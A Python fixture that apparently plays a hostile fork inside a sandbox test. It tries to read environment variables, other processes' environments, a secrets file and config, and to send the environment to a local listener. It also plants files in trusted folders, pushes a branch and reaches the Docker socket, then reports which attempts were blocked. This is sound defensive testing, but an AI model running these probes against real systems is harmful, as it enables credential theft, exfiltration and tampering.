"""What a hostile fork would do once its code runs: read, write, call home. Run by test_strangers.py as a fork's code.

It tells what it got on standard output, a line for each thing, where the test looks for what must not be there.
"""

import os
import socket
import subprocess
import sys
from collections.abc import Callable
from functools import partial
from pathlib import Path

SECRETS, HOME, ORIGIN, PORT = sys.argv[1:]


def tell(what: str, attempt: Callable[[], object]) -> None:
    try:
        sys.stdout.write(f"{what}: got {attempt()}\n")
    except Exception as error:  # noqa: BLE001  (whatever keeps it out will do)
        sys.stdout.write(f"{what}: kept out by {type(error).__name__}\n")


def others() -> str:
    numbers = [path.name for path in Path("/proc").iterdir() if path.name.isdigit()]
    return " ".join(Path("/proc", number, "environ").read_bytes().decode("latin-1") for number in numbers)


def call_home() -> str:
    with socket.create_connection(("127.0.0.1", int(PORT)), timeout=2) as line:
        line.sendall(repr(dict(os.environ)).encode())
    return "an answer"


def write_into(folder: Path) -> str:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "planted").write_text("passed")
    return f"a file into {folder}"


def push() -> str:
    done = subprocess.run(["git", "push", ORIGIN, "HEAD:refs/heads/planted"], capture_output=True, text=True)
    if done.returncode:
        raise OSError(done.stderr)
    return "a branch"


tell("variables", lambda: dict(os.environ))
tell("processes", others)
tell("secret file", lambda: Path(SECRETS).read_text())
tell("its own user's home", lambda: sorted(path.name for path in Path(os.environ["HOME"]).iterdir()))
tell("configuration of the door", lambda: (Path(HOME) / "door.toml").read_text())
tell("network", call_home)
for name in ("reports", "results/trusted", "tools", "security", "delivery", "live"):
    tell(f"writing {name}", partial(write_into, Path(HOME) / name))
tell("pushing", push)
tell("engine", lambda: socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock"))
Path("towpath.toml").write_text("[checks]\n")
